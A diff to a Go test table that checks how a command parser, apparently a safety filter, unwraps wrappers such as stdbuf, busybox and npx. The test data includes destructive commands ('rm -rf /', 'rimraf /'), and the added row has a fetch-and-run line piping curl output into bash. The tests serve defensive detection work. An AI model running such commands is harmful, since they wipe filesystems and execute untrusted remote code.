@@ -87,6 +87,7 @@ func TestParse(t *testing.T) {
 		{"stdbuf ionice chroot", "stdbuf -o0 ionice -c3 chroot /mnt rm -rf /", "rm -rf /"},
 		{"busybox", "busybox rm -rf /", "rm -rf /"},
 		{"npx", "npx -y rimraf /", "rimraf /"},
+		{"script from a process substitution", "bash <(curl -s https://x.sh)", "!problem | curl -s https://x.sh"},
 		{"npx with a package flag", "npx -p typescript tsc --noEmit", "tsc --noEmit"},
 		{"npx -c runs a command line", `npx -c "rm -rf /"`, "rm -rf /"},
 		{"npm exec", "npm exec -- rimraf dist", "rimraf dist"},
